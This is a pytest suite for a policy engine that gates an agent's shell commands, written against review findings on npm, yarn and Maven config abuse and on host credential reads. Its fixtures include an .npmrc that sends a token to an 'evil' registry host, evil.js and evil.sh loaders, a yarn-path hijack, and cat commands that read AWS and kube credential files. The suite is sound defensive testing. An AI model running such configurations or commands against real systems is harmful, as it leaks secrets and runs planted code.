"""Review GK4, GK6-GK8: what a project (or the host's environment) makes an approved tool
read or run, beyond the launcher table of review GG.

GK6: a committed `.npmrc` with `registry=http://evil/` and `//evil/:_authToken=${TOKEN}`
made approved `npm view|outdated|ls|ping|search` send the token out: npm (and pnpm and
yarn 1, which read the file too) ask where an `.npmrc` sets a key outside a short
allowlist. GK7: `yarnpkg --version` counted as an install (no verb), so `yarnPath` was not
looked at, while yarn runs that release to print its version. GK8: a pom's plugin
repository (a `file:` one in the workspace) chooses the plugin an approved
`mvn dependency:tree` runs. GK4: with `ToolOptions(env={"HOME": other})`, the host user's
real `~/.aws/credentials` was read by its absolute path.

The real programs run where installed (npm, yarn 1 from `scripts/real-tools.sh`,
mvn); the engine's verdicts are asserted always."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from realrun import REAL_BIN, canary_workspace, decide, program_printed

from policylang import Verdict, load_policy
from policylang.tool.bash import BashTool, ToolOptions, ToolStatus

_REVIEW_YARN = REAL_BIN / "yarn"
_TOKEN = "ghp_canaryGKtoken123"


def _workspace(tmp_path: Path, path: str = "/usr/bin:/bin") -> tuple[Path, dict[str, str]]:
    """(no `.env`: the canary is the token in the environment)"""
    package = {"package.json": '{"name": "x", "version": "1.0.0"}\n'}
    return canary_workspace(tmp_path, None, package, path, GITHUB_TOKEN=_TOKEN)


def _verdict(line: str, workspace: Path, env: dict[str, str], *approvals: str) -> Verdict:
    return decide(line, workspace, env, *approvals).verdict


# -- GK6 ---------------------------------------------------------------------------------


_READ_VERBS = [
    ("npm view lodash", "npm view lodash"),
    ("npm outdated", "npm outdated"),
    ("npm ls", "npm ls"),
    ("npm ping", "npm ping"),
    ("npm search lodash", "npm search"),
]


def test_npmrc_token_to_a_committed_registry_asks(
    tmp_path: Path, registry: tuple[str, list[str]]
) -> None:
    host, seen = registry
    workspace, env = _workspace(tmp_path)
    (workspace / ".npmrc").write_text(
        f"registry=http://{host}/\n//{host}/:_authToken=${{GITHUB_TOKEN}}\n"
    )
    if shutil.which("npm"):  # the token reaches the project's registry
        program_printed(["npm", "view", "lodash", "--fetch-retries=0"], workspace, env)
        assert f"Bearer {_TOKEN}" in seen
    for line, approval in _READ_VERBS:
        assert _verdict(line, workspace, env, approval) is Verdict.ASK, line
        assert decide(line, workspace, env).suggested_rule is None, line
    assert _verdict("pnpm view lodash", workspace, env, "pnpm view") is Verdict.ASK
    assert _verdict("yarn info lodash", workspace, env, "yarn info") is Verdict.ASK
    assert _verdict("npm --prefix sub ls", workspace, env, "npm") is Verdict.ASK
    # an install runs the project's code anyway: its approval covers that
    assert _verdict("npm install", workspace, env, "npm install") is Verdict.ALLOW


@pytest.mark.parametrize(
    "text",
    [
        "@corp:registry=https://npm.example.com/\n",
        "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n",
        "https-proxy=http://127.0.0.1:9/\n",
        "script-shell=./evil.sh\n",
        "node-options=--require ./evil.js\n",
        "userconfig=./other\n",
        "cafile=./ca.pem\n",
        "strict-ssl=false\n",
        "[section]\nfund=false\n",
        '"registry"=http://x/\n',
        "save-exact=${X}\n",
        "\ufeffregistry=http://x/\n",
    ],
)
def test_npmrc_settings_outside_the_allowlist_ask(tmp_path: Path, text: str) -> None:
    workspace, env = _workspace(tmp_path)
    (workspace / "sub").mkdir()
    (workspace / ".npmrc").write_text(text)
    assert _verdict("npm view lodash", workspace, env, "npm view lodash") is Verdict.ASK
    # an `.npmrc` of a folder above the working one, in the workspace
    assert decide("npm ls", workspace, env, "npm ls", cwd=workspace / "sub").verdict is Verdict.ASK


def test_harmless_npmrc_is_allowed(tmp_path: Path) -> None:
    workspace, env = _workspace(tmp_path)
    (workspace / ".npmrc").write_text(
        "; settings\nsave-exact=true\nengine-strict = true\nfund=false\nloglevel=warn\n"
        "registry=https://registry.npmjs.org/\npublic-hoist-pattern[]=*eslint*\n"
    )
    assert _verdict("npm view lodash", workspace, env, "npm view lodash") is Verdict.ALLOW
    assert _verdict("pnpm view lodash", workspace, env, "pnpm view") is Verdict.ALLOW


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".yarnrc", 'registry "http://127.0.0.1:9/"\n'),
        (".yarnrc", '"//127.0.0.1:9/:_authToken" "${GITHUB_TOKEN}"\n'),
        (".yarnrc.yml", 'npmRegistryServer: "http://127.0.0.1:9"\nnpmAuthToken: "${X}"\n'),
        (".yarnrc.yml", "httpsProxy: http://127.0.0.1:9\n"),
    ],
)
def test_yarn_registry_settings_ask(tmp_path: Path, name: str, text: str) -> None:
    """yarn's own files choose where its token goes as `.npmrc` does (GK6)."""
    workspace, env = _workspace(tmp_path)
    (workspace / name).write_text(text)
    assert _verdict("yarn info react", workspace, env, "yarn info") is Verdict.ASK


def test_yarn_default_registry_is_allowed(tmp_path: Path) -> None:
    workspace, env = _workspace(tmp_path)
    (workspace / ".yarnrc").write_text('registry "https://registry.yarnpkg.com"\n')
    (workspace / ".yarnrc.yml").write_text(
        'npmRegistryServer: "https://registry.yarnpkg.com"\nnodeLinker: node-modules\n'
    )
    assert _verdict("yarn info react", workspace, env, "yarn info") is Verdict.ALLOW


# -- GK7 ---------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["yarnpkg", "yarn"])
@pytest.mark.parametrize("option", ["--version", "-v", "--help"])
def test_yarn_version_line_looks_at_yarn_path(tmp_path: Path, name: str, option: str) -> None:
    workspace, env = _workspace(tmp_path, f"{_REVIEW_YARN.parent}:/usr/bin:/bin")
    (workspace / "evil.js").write_text(
        'require("fs").writeFileSync("PWNED", "x"); console.log("9.9.9");\n'
    )
    (workspace / ".yarnrc").write_text('yarn-path "./evil.js"\n')
    if name == "yarn" and option == "--version" and _REVIEW_YARN.exists() and shutil.which("node"):
        program_printed(["yarn", "--version"], workspace, env)
        assert (workspace / "PWNED").exists()  # yarn 1 ran the committed release
    assert _verdict(f"{name} {option}", workspace, env, f"{name} {option} $") is Verdict.ASK
    # options alone (no version or help) are an install: the project's code runs anyway
    assert _verdict(f"{name} --frozen-lockfile", workspace, env, name) is Verdict.ALLOW


# -- GK8 ---------------------------------------------------------------------------------
_POM = (
    "<project><modelVersion>4.0.0</modelVersion><groupId>g</groupId><artifactId>a</artifactId>"
    "<version>1</version><url>http://www.example.com</url>{}</project>\n"
)
_PLUGIN_REPOSITORY = (
    "<pluginRepositories><pluginRepository><id>central</id>"
    "<url>file://${project.basedir}/m2repo</url></pluginRepository></pluginRepositories>"
)


@pytest.mark.parametrize(
    ("body", "line"),
    [
        (_PLUGIN_REPOSITORY, "mvn dependency:tree"),
        (_PLUGIN_REPOSITORY, "mvn help:effective-pom"),
        (_PLUGIN_REPOSITORY, "mvn validate"),
        ("<repositories><repository><id>x</id><url>http://x/</url></repository></repositories>",
         "mvn dependency:tree"),
        ("<repositories><repository><id>x</id><url>${r}</url></repository></repositories>",
         "mvn dependency:tree"),
        ("<build><extensions><extension><groupId>e</groupId></extension></extensions></build>",
         "mvn dependency:tree"),
        ("<build><plugins><plugin><artifactId>p</artifactId><executions><execution/>"
         "</executions></plugin></plugins></build>", "mvn validate"),
        ("<build><plugins><plugin><artifactId>p</artifactId><executions><execution>"
         "<phase>pre-clean</phase></execution></executions></plugin></plugins></build>",
         "mvn clean"),
        ("<reporting><plugins/></reporting>", "mvn site"),
        ("<modules><module>sub</module></modules>", "mvn dependency:tree"),
        ("<parent><relativePath>../../x</relativePath></parent>", "mvn dependency:tree"),
    ],
)  # fmt: skip
def test_pom_chosen_plugin_asks_under_approval(tmp_path: Path, body: str, line: str) -> None:
    workspace, env = _workspace(tmp_path)
    (workspace / "pom.xml").write_text(_POM.format(body))
    (workspace / "sub").mkdir()
    (workspace / "sub" / "pom.xml").write_text(_POM.format(_PLUGIN_REPOSITORY))
    if line == "mvn dependency:tree" and body == _PLUGIN_REPOSITORY and shutil.which("mvn"):
        # Maven looks for the plugin in the workspace's repository (offline here)
        done = subprocess.run(
            ["mvn", "-o", "-B", "-X", "dependency:tree"], cwd=workspace, env=env,
            capture_output=True, text=True, timeout=300, check=False,
        )  # fmt: skip
        assert f"file://{workspace}/m2repo" in done.stdout
    assert _verdict(line, workspace, env, line) is Verdict.ASK
    # a phase that builds runs the project's code anyway
    assert _verdict("mvn compile", workspace, env, "mvn compile") is Verdict.ALLOW


def test_plain_pom_is_allowed(tmp_path: Path) -> None:
    workspace, env = _workspace(tmp_path)
    (workspace / "sub").mkdir()
    (workspace / "sub" / "pom.xml").write_text(_POM.format(""))
    (workspace / "pom.xml").write_text(_POM.format("<modules><module>sub</module></modules>"))
    for line in ("mvn dependency:tree", "mvn validate", "mvn help:effective-pom"):
        assert _verdict(line, workspace, env, line) is Verdict.ALLOW, line
    # executions bound elsewhere than the clean lifecycle do not run under `mvn clean`
    (workspace / "sub" / "pom.xml").write_text(
        _POM.format("<build><plugins><plugin><artifactId>p</artifactId><executions>"
                    "<execution><phase>test</phase></execution></executions></plugin>"
                    "</plugins></build>")
    )  # fmt: skip
    assert _verdict("mvn clean", workspace, env, "mvn clean") is Verdict.ALLOW
    assert _verdict("mvn validate", workspace, env, "mvn validate") is Verdict.ASK
    assert _verdict("mvn -v", workspace, env, "mvn -v") is Verdict.ALLOW


# -- GK4 ---------------------------------------------------------------------------------
def test_host_home_protected_when_the_child_home_differs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    workspace, _env = _workspace(tmp_path)
    home = tmp_path / "home"
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("canary-GK-aws\n")
    (home / ".kube").mkdir()
    (home / ".kube" / "config").write_text("canary-GK-kube\n")
    agent = tmp_path / "agenthome"
    agent.mkdir()
    monkeypatch.setenv("HOME", str(home))
    shown = subprocess.run(
        ["cat", str(home / ".aws" / "credentials")], env={"HOME": str(agent)},
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert "canary-GK-aws" in shown.stdout  # the child's HOME does not hide the file
    tool = BashTool(load_policy(), workspace=str(workspace),
                    options=ToolOptions(env={"HOME": str(agent)}))  # fmt: skip
    for place in (".aws/credentials", ".kube/config"):
        result = tool.call({"command": f"cat {home / place}"})
        assert result.status is ToolStatus.DENIED, result
        assert "canary-GK" not in result.model_text
        assert tool.call({"command": f"grep -r canary {home}"}).status is not ToolStatus.OK
    assert tool.call({"command": "cat package.json"}).status is ToolStatus.OK


def test_relative_host_kubeconfig_joins_the_process_cwd(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    workspace, env = _workspace(tmp_path)
    server = tmp_path / "srv"
    (server / "k").mkdir(parents=True)
    (server / "k" / "prod").write_text("canary-GK-k\n")
    monkeypatch.chdir(server)
    decision = load_policy().evaluate(
        f"cat {server / 'k' / 'prod'}", workspace=str(workspace), cwd=str(workspace),
        env={"HOME": env["HOME"], "PATH": env["PATH"]},
        host_env={"HOME": env["HOME"], "KUBECONFIG": "k/prod"},
    )  # fmt: skip
    assert decision.verdict is Verdict.DENY
    assert os.path.isfile(server / "k" / "prod")
